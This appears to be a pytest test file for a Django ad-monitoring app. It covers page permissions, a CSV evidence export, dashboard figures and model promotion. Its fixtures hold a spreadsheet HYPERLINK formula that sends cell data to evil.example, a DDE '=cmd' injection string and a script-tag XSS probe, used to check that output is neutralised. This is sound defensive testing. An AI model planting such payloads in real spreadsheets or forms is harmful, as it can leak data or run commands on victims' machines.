"""The insight pages: operations, the evidence package, the dashboard and model management."""

import csv
import datetime
import io
import re
from collections import Counter

import pytest
from django.utils import timezone

from fener.adwatch.models import Ad, Arrival, ModelVersion, Platform, Referral, Source
from fener.adwatch.services.decisions import ad_decide, referral_respond
from fener.adwatch.services.ingestion import ads_ingest
from fener.adwatch.services.operations import operations_refresh
from fener.analytics.ads.devset import load_devset
from fener.analytics.ads.model import RiskModel
from fener.analytics.ads.training import features_of
from fener.core.models import AuditEvent
from tests.adwatch.conftest import CLEAN, SUSPICIOUS
from tests.adwatch.test_operations import SAME_PHONE, TEMPLATE_A, TEMPLATE_B

pytestmark = pytest.mark.django_db

# Ad text is written by strangers: a formula and markup must come out inert.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click") ' + TEMPLATE_A.replace("1500", "1700")
MARKUP = "<script>alert('x')</script> " + TEMPLATE_B.replace("1800", "1900")


def as_user(client, user):
    client.logout()
    if user is not None:
        client.force_login(user)
    return client


@pytest.fixture
def operation(source, monitor, police):
    """One operation of four ads (one template, one shared phone), two decisions on it."""
    records = [
        (n, {"text": text}) for n, text in enumerate([TEMPLATE_A, FORMULA, MARKUP, SAME_PHONE], 1)
    ]
    ads_ingest(source=source, records=records, actor=monitor)
    ads_ingest(source=source, records=[(1, {"text": CLEAN})], actor=monitor)
    operations_refresh()
    first = Ad.objects.get(text=TEMPLATE_A)
    ad_decide(
        actor=monitor,
        ad=first,
        action="refer_police",
        reason="=cmd|' /C calc'!A0 same template as before",
        to_institution=police,
    )
    ad_decide(actor=monitor, ad=Ad.objects.get(text=SAME_PHONE), action="takedown", reason="fake")
    return first.operation


# --- Who may see what -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("who", "listing", "detail", "evidence", "dashboard", "models"),
    [
        ("monitor", 200, 200, 200, 200, 200),
        ("officer", 403, 404, 404, 200, 403),
        ("case_worker", 403, 404, 404, 403, 403),
        ("anonymous", 302, 302, 302, 302, 302),
    ],
)
def test_permission_matrix_of_the_insight_pages(
    client, request, make_user, operation, who, listing, detail, evidence, dashboard, models
):
    users = {"case_worker": lambda: make_user("case_worker")}
    user = None if who == "anonymous" else users.get(who, lambda: request.getfixturevalue(who))()
    as_user(client, user)
    exports = AuditEvent.objects.filter(action="adwatch.evidence_export").count()

    assert client.get("/en/ads/operations/").status_code == listing
    assert client.get(f"/en/ads/operations/{operation.pk}/").status_code == detail
    # A hidden operation answers exactly like one that does not exist.
    if detail == 404:
        assert client.get("/en/ads/operations/999999/").status_code == 404
    assert client.get(f"/en/ads/operations/{operation.pk}/evidence.csv").status_code == evidence
    assert client.get(f"/en/ads/operations/{operation.pk}/evidence/").status_code == evidence
    assert client.get("/en/ads/dashboard/").status_code == dashboard
    assert client.get("/en/ads/models/").status_code == models
    if who == "anonymous":
        assert client.get("/en/ads/dashboard/")["Location"].startswith("/en/accounts/login/")
    # A refused export is not an export: nothing more in the audit log.
    expected = exports + (2 if evidence == 200 else 0)
    assert AuditEvent.objects.filter(action="adwatch.evidence_export").count() == expected


# --- Operations -----------------------------------------------------------------------------


def test_operations_are_listed_riskiest_first(client, source, monitor, operation):
    quieter = operation.__class__.objects.create(
        key="op-quiet",
        first_seen=operation.first_seen,
        last_seen=operation.last_seen,
        ad_count=2,
        max_risk=0.01,
    )
    response = as_user(client, monitor).get("/en/ads/operations/")
    keys = re.findall(r'href="/en/ads/operations/\d+/">(op-[\w-]+)<', response.content.decode())
    assert keys == [operation.key, quieter.key]


def test_the_operation_page_shows_its_facts_and_a_watch_button(client, monitor, operation):
    response = as_user(client, monitor).get(f"/en/ads/operations/{operation.pk}/")
    html = response.content.decode()
    assert operation.key in html
    assert "+38970111222" in html and "Facebook group" in html
    assert response.context["weeks"][0].ads == 4
    # The watch button posts the operation's key to the review area's watch view.
    form = re.search(r'<form method="post" action="/en/ads/watches/add/".*?</form>', html, re.S)
    assert form is not None
    assert 'name="kind" value="operation"' in form.group(0)
    assert f'name="value" value="{operation.key}"' in form.group(0)
    # Ad text is shown escaped, never run.
    assert "<script>alert" not in html and "&lt;script&gt;alert" in html
    # The chart is drawn by the locally served plotly, never a CDN.
    assert re.findall(r'(?:src|href)="((?:https?:)?//[^"]+)"', html) == []
    assert '<script src="/en/assets/plotly.min.js?v=' in html


def test_watching_an_operation_from_its_page(client, monitor, operation):
    page = f"/en/ads/operations/{operation.pk}/"
    response = as_user(client, monitor).post(
        "/en/ads/watches/add/", {"kind": "operation", "value": operation.key, "next": page}
    )
    assert response.status_code == 302 and response["Location"] == page
    html = client.get(page).content.decode()
    assert "Stop watching" in html and "Watch this operation" not in html


# --- Evidence package -----------------------------------------------------------------------


def test_the_evidence_csv_holds_every_ad_and_decision_and_is_formula_safe(
    client, monitor, operation
):
    response = as_user(client, monitor).get(f"/en/ads/operations/{operation.pk}/evidence.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert f'filename="fener-{operation.key}.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 4  # four ads, one decision at most each
    assert {row["ad_id"] for row in rows} == {
        str(pk) for pk in Ad.objects.filter(operation=operation).values_list("pk", flat=True)
    }
    referred = next(row for row in rows if row["decision"] == "refer_police")
    assert referred["referred_to"] == Referral.objects.get().to_institution.name
    assert referred["referral_status"] == "open"
    assert referred["decided_by"] == monitor.username
    # No cell starts a formula: the ad text and the reason are neutralised.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    assert next(row for row in rows if "HYPERLINK" in row["text"])["text"].startswith("'=")
    assert referred["decision_reason"].startswith("'=cmd")
    assert next(row for row in rows if row["phones"])["phones"].startswith("'+389")
    event = AuditEvent.objects.get(action="adwatch.evidence_export")
    assert event.actor == monitor and event.target_id == str(operation.pk)
    assert event.after == {"format": "csv", "ads": 4}


def test_the_evidence_report_is_printable_with_ads_decisions_and_timeline(
    client, monitor, officer, operation
):
    referral = Referral.objects.get()
    referral_respond(actor=officer, referral=referral, status="acknowledged", response="On it")
    response = as_user(client, monitor).get(f"/en/ads/operations/{operation.pk}/evidence/")
    html = response.content.decode()
    report = response.context["report"]
    assert [ad.pk for ad in report.ads] == sorted(ad.pk for ad in report.ads)
    kinds = [event.kind for event in report.timeline]
    assert kinds.count("seen") == 4 and kinds.count("decision") == 2
    assert kinds.count("referral_answer") == 1
    assert [event.at for event in report.timeline] == sorted(event.at for event in report.timeline)
    assert "On it" in html and "same template as before" in html
    assert "&lt;script&gt;alert" in html and "<script>alert" not in html
    assert "adwatch/insight.css" in html  # the print style sheet
    assert AuditEvent.objects.get(action="adwatch.evidence_export").after["format"] == "report"


# --- Dashboard ------------------------------------------------------------------------------


@pytest.fixture
def dashboard_data(source, monitor, police, officer, home_institution):
    telegram = Source.objects.create(
        name="Channel",
        platform=Platform.TELEGRAM,
        country="AL",
        arrival=Arrival.API,
        institution=home_institution,
    )
    ads_ingest(
        source=source, records=[(1, {"text": SUSPICIOUS}), (2, {"text": CLEAN})], actor=monitor
    )
    ads_ingest(source=telegram, records=[(1, {"text": TEMPLATE_A})], actor=monitor)
    suspicious = Ad.objects.get(text=SUSPICIOUS)
    decision = ad_decide(
        actor=monitor, ad=suspicious, action="refer_police", reason="x", to_institution=police
    )
    referral_respond(actor=officer, referral=decision.referral, status="closed", response="done")
    ad_decide(actor=monitor, ad=Ad.objects.get(text=CLEAN), action="dismiss", reason="fine")
    return Ad.objects.all()


def test_the_dashboard_numbers_match_the_data(client, monitor, dashboard_data):
    response = as_user(client, monitor).get("/en/ads/dashboard/")
    data = response.context["data"]
    ads = list(dashboard_data)
    suspicious = sum(ad.label == "suspicious" for ad in ads)
    assert data.total_ads == 3 and data.suspicious_ads == suspicious
    assert data.suspicious_share == round(100 * suspicious / 3, 1)
    assert [(week.ads, week.suspicious) for week in data.weeks] == [(3, suspicious)]
    expected = Counter(code for ad in ads for code in set(ad.indicator_codes))
    assert {item.key: item.count for item in data.indicators} == dict(expected.most_common(10))
    assert [(p.key, p.count, p.share) for p in data.platforms] == [
        ("facebook_group", 2, 66.7),
        ("telegram", 1, 33.3),
    ]
    assert sum(item.count for item in data.languages) == 3
    assert {d.key: d.count for d in data.decisions} == {"refer_police": 1, "dismiss": 1}
    assert data.referrals == [
        {
            "key": "police",
            "label": data.referrals[0]["label"],
            "counts": {"open": 0, "acknowledged": 0, "closed": 1},
            "total": 1,
            "cells": [0, 0, 1],
        }
    ]
    html = response.content.decode()
    # The numbers are on the page as text too (so it works without JavaScript).
    assert 'data-figure="ads">3<' in html
    assert f'data-figure="suspicious">{suspicious}<' in html
    assert 'data-referrals="police"' in html
    assert html.count('class="plotly-graph-div"') == 6
    assert re.findall(r'(?:src|href)="((?:https?:)?//[^"]+)"', html) == []


def test_the_dashboard_period_leaves_out_older_ads(client, officer, dashboard_data):
    Ad.objects.filter(text=CLEAN).update(first_seen=timezone.now() - datetime.timedelta(days=60))
    as_user(client, officer)
    assert client.get("/en/ads/dashboard/?period=4").context["data"].total_ads == 2
    assert client.get("/en/ads/dashboard/?period=52").context["data"].total_ads == 3
    # A period not offered means all time, not an error.
    assert client.get("/en/ads/dashboard/?period=nonsense").context["data"].total_ads == 3


def test_the_plotly_library_is_served_locally(client):
    response = client.get("/en/assets/plotly.min.js")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/javascript")
    assert "immutable" in response["Cache-Control"]
    assert b"plotly" in b"".join(response.streaming_content)[:2000].lower()


# --- Model management -----------------------------------------------------------------------


def _queued_tasks():
    from django_tasks_db.models import DBTaskResult

    return DBTaskResult.objects.filter(task_path__endswith="model_retrain_task")


def test_retraining_from_the_page_queues_the_background_task(client, monitor, officer):
    as_user(client, monitor)
    assert client.get("/en/ads/models/retrain/").status_code == 405
    response = client.post("/en/ads/models/retrain/")
    assert response.status_code == 302 and response["Location"] == "/en/ads/models/"
    task = _queued_tasks().get()
    assert task.args_kwargs["kwargs"] == {"actor_id": monitor.pk}

    as_user(client, officer)
    assert client.post("/en/ads/models/retrain/").status_code == 403
    assert _queued_tasks().count() == 1


def test_the_model_page_shows_each_evaluation_and_refuses_a_worse_version(client, monitor):
    flip = {"suspicious": "legitimate", "legitimate": "suspicious"}
    inverted = [{**ad, "label": flip[ad["label"]]} for ad in load_devset()]
    worse = ModelVersion.objects.create(
        version="worse-one",
        payload=RiskModel().fit(*features_of(inverted)).to_bytes(),
        trained_at=timezone.now(),
        evaluation={
            "held_out": {"source": "decisions", "size": 10, "suspicious": 5, "legitimate": 5},
            "training": {"decisions": 40, "development_set": 300},
            "candidate": {"pr_auc": 0.41, "f1": 0.2},
            "current": {"pr_auc": 0.93, "f1": 0.9},
            "compared_with": "shipped",
            "promote": False,
            "reason": "worse on held-out pr_auc, f1",
        },
        decision_reason="worse on held-out pr_auc, f1",
    )
    as_user(client, monitor)
    html = client.get("/en/ads/models/").content.decode()
    assert "worse-one" in html and "0.410" in html and "0.930" in html and "-0.520" in html
    assert "the model shipped with Fener" in html
    assert f'action="/en/ads/models/{worse.pk}/promote/"' in html

    response = client.post(f"/en/ads/models/{worse.pk}/promote/", follow=True)
    messages = [str(message) for message in response.context["messages"]]
    assert any("Not promoted" in message and "worse" in message for message in messages)
    worse.refresh_from_db()
    assert not worse.current
    assert not AuditEvent.objects.filter(action="adwatch.model_promote").exists()


def test_promoting_from_the_page(client, monitor, officer):
    from fener.analytics.ads.screening import default_model

    version = ModelVersion.objects.create(
        version="same-as-shipped", payload=default_model().to_bytes(), trained_at=timezone.now()
    )
    assert as_user(client, officer).post(f"/en/ads/models/{version.pk}/promote/").status_code == 404
    response = as_user(client, monitor).post(f"/en/ads/models/{version.pk}/promote/")
    assert response.status_code == 302
    version.refresh_from_db()
    assert version.current
    html = client.get("/en/ads/models/").content.decode()
    assert "same-as-shipped</strong>" in html
    assert AuditEvent.objects.filter(action="adwatch.model_promote", actor=monitor).count() == 1


# --- In a real browser, with no network beyond this server ----------------------------------


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_the_dashboard_draws_its_charts_offline(page, live_server, source, monitor, password):
    ads_ingest(
        source=source, records=[(1, {"text": SUSPICIOUS}), (2, {"text": CLEAN})], actor=monitor
    )
    elsewhere = []

    def only_this_server(route):
        if route.request.url.startswith(live_server.url):
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    page.route("**/*", only_this_server)
    page.goto(f"{live_server.url}/en/accounts/login/")
    page.get_by_label("Username").fill("monitor")
    page.get_by_label("Password").fill(password)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(f"{live_server.url}/en/")
    page.goto(f"{live_server.url}/en/ads/dashboard/")

    page.locator(".plotly-graph-div .main-svg").first.wait_for()
    assert page.locator(".plotly-graph-div .main-svg").count() >= 6
    assert page.locator("[data-figure=ads]").inner_text() == "2"
    assert elsewhere == []
